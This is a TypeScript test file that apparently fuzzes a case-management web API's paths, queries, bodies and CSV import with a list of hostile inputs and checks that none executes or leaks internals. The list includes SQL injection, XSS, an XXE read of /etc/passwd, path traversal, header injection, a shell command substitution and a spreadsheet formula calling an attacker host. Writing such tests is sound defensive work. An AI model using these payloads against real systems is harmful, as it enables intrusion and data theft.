import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { ROLES } from '../src/domain/role.ts'
import type { Address } from './addresses.ts'
import { ADDRESSES, pathOf, patternOf } from './addresses.ts'
import type { Answer } from './send.ts'
import { report, send } from './send.ts'
import type { TwoOperations } from './two-operations.ts'
import { openTwoOperations } from './two-operations.ts'

// Expected of every one: an answer of ours (below 500, as JSON), nothing executed, nothing of the
// database's or the program's own words in it, and everything on file as it was.

let world: TwoOperations
beforeAll(async () => {
  world = await openTwoOperations()
})
afterAll(() => world.close())

const HOSTILE: Readonly<Record<string, string>> = {
  'SQL, a quote': "'; drop table persons; --",
  'SQL, union': "x' union select handle, role, null from accounts --",
  'SQL, a comment': '1 /*! or 1=1 */',
  'SQL, dollar quotes': '$$; select pg_sleep(9); $$',
  'pattern of everything': '%_%\\',
  'HTML, script': '<script>globalThis.attacked = 1</script>',
  'HTML, attribute': '"><img src=x onerror=attacked()>',
  'XML, entity': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  formula: '=HYPERLINK("https://attacker.invalid/"&A1)',
  'formula, at': '@SUM(1+1)*cmd|" /C calc"!A0',
  'path upwards': '../../../../etc/passwd',
  'path upwards, encoded': '..%2f..%2fetc%2fpasswd',
  'header line': 'x\r\nset-cookie: attacked=1\r\n\r\n',
  prototype: '__proto__',
  constructor: 'constructor.prototype.attacked',
  'template of code': '${7*7}{{7*7}}#{7*7}',
  'shell command': '$(touch /tmp/attacked)`id`',
  'regular expression': '(a+)+$'.repeat(8) + 'a'.repeat(60),
  'right to left': '\u202Egnp.exe\u2066',
  'half a character': '\uD800',
  'zero character': 'a\u0000b',
  'very long': 'ا'.repeat(20_000),
}

const SECRETS = /syntax error|pg_catalog|relation "|\bat .*\.(ts|js):\d|node_modules|root:x:0/

function faultOf({ status, text, headers }: Answer): string | undefined {
  if (status >= 500) return `status ${status}`
  if (SECRETS.test(text)) return 'words of the database or the program'
  if (headers.get('set-cookie')?.includes('attacked') === true) return 'a header'
  if (Object.hasOwn(Object.prototype, 'attacked')) return 'the prototype of all objects'
  const type = headers.get('content-type') ?? ''
  // Longer addresses than Node reads are refused by it, without a body.
  if (status === 431) return undefined
  return status >= 400 && !type.startsWith('application/json') ? `type ${type}` : undefined
}

/** Every role's addresses as that role, so that the text reaches what is behind the door. */
function cookieFor({ who }: Address): string | undefined {
  const role = ROLES.find((one) => typeof who !== 'string' && who.includes(one))
  return world.cookies.get(role ?? 'reviewer')
}

const TRIED = ADDRESSES.filter(
  ({ path, ends, staysOpen }) => path !== '/api/sign-out' && ends !== true && staysOpen !== true,
)

test('in every gap of every address', async () => {
  const found: string[] = []
  let tried = 0
  for (const address of TRIED)
    for (const gap of address.path.matchAll(/:(\w+)/g))
      for (const [kind, text] of Object.entries(HOSTILE)) {
        const path = address.path.replace(gap[0], encoded(text))
        const answer = await sent(address, pathOf({ ...address, path }, world.own), bodyOf(address))
        tried += 1
        const fault = faultOf(answer)
        if (fault !== undefined) found.push(`${patternOf(address)}, ${kind}: ${fault}`)
      }
  expect(found).toEqual([])
  report('hostile texts in addresses', tried)
})

const QUERIES = 'status page asOf'
/** Typeset anew for each request; they read the query as their neighbours do. */
const DEAR = /[.](pdf|docx)$/

test('in every part of a query', async () => {
  const found: string[] = []
  let tried = 0
  for (const address of TRIED.filter(({ method, path }) => method === 'GET' && !DEAR.test(path)))
    for (const key of QUERIES.split(' '))
      for (const [kind, text] of Object.entries(HOSTILE)) {
        const asked = `${pathOf(address, world.own)}?${key}=${encoded(text)}`
        const fault = faultOf(await sent(address, asked))
        tried += 1
        if (fault !== undefined) found.push(`${patternOf(address)} ${key}, ${kind}: ${fault}`)
      }
  expect(found).toEqual([])
  report('hostile texts in queries', tried)
})

test('in every text of every body, and as a name in it', async () => {
  const found: string[] = []
  let tried = 0
  for (const address of TRIED.filter(({ body, isUpload }) => body && isUpload !== true))
    for (const [kind, text] of Object.entries(HOSTILE))
      for (const body of variants(address.body?.(world.own), text)) {
        const fault = faultOf(await sent(address, pathOf(address, world.own), JSON.stringify(body)))
        tried += 1
        if (fault !== undefined) found.push(`${patternOf(address)}, ${kind}: ${fault}`)
      }
  expect(found).toEqual([])
  report('hostile texts in bodies', tried)
})

test('in every column of a register: what is written leaves as text, no cell is a formula', async () => {
  const columns = ['person_id', 'given_name', 'family_name', 'household_id', 'needs', 'languages']
  const texts = Object.values(HOSTILE).filter((text) => !text.includes('\u0000'))
  const lines = texts.map((text, row) =>
    columns.map((name) => `"${`${name === 'person_id' ? row : ''}${text}`.replaceAll('"', '""')}"`),
  )
  const file = [columns.join(','), ...lines.map((cells) => cells.join(','))].join('\n')
  const cookie = world.cookies.get('field_officer')
  const answer = await send(`${world.url}/api/imports/write?kind=register&name=a.csv`, {
    method: 'POST',
    headers: { 'content-type': 'application/octet-stream', ...(cookie && { cookie }) },
    body: file,
  })
  expect(faultOf(answer)).toBeUndefined()
  const exported = await send(`${world.url}/api/exports`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(cookie && { cookie }) },
    body: JSON.stringify({ what: 'persons', format: 'csv', purpose: 'an attack' }),
  })
  expect(exported.status).toBe(200)
  const rows: string[][] = parse(exported.text, { bom: true })
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  report('hostile texts in a file', texts.length * columns.length)
})

test('after all of that everybody is still on file, and nothing waits', async () => {
  const [row] = await world.db.asSystem().bare<{ tables: number }>(
    `select count(*)::int as tables from pg_tables where schemaname = 'public'
     and tablename in ('persons', 'cases', 'accounts', 'audit_entries')`,
  )
  expect(row).toEqual({ tables: 4 })
  const answer = await sent(
    ADDRESSES.find(({ path }) => path === '/api/persons')!,
    `/api/persons/${world.own.person}`,
  )
  expect(answer.status).toBe(200)
})

function sent(address: Address, path: string, body?: string): Promise<Answer> {
  const cookie = cookieFor(address)
  const type = address.isUpload === true ? 'application/octet-stream' : 'application/json'
  return send(world.url + path, {
    method: address.method,
    headers: { ...(cookie && { cookie }), ...(body !== undefined && { 'content-type': type }) },
    ...(body !== undefined && { body }),
  })
}

function bodyOf(address: Address): string | undefined {
  const body = address.body?.(world.own)
  return body === undefined || typeof body === 'string' ? body : JSON.stringify(body)
}

/** What a URL can carry of a text: half a character is none. */
function encoded(text: string): string {
  return encodeURIComponent(text.replace(/[\uD800-\uDFFF]/, '\uFFFD'))
}

/** The body with one of its texts replaced, for each of them, and with the text as a name in it. */
function variants(body: unknown, text: string): unknown[] {
  if (typeof body === 'string') return [text]
  if (Array.isArray(body))
    return body.flatMap((one, at) => variants(one, text).map((next) => body.with(at, next)))
  if (typeof body !== 'object' || body === null) return []
  const inside = Object.entries(body).flatMap(([key, one]) =>
    variants(one, text).map((next) => ({ ...body, [key]: next })),
  )
  const named = JSON.parse(`{${JSON.stringify(text)}: {"attacked": 1}}`) as object
  return [...inside, Object.assign(Object.create(null) as object, body, named)]
}
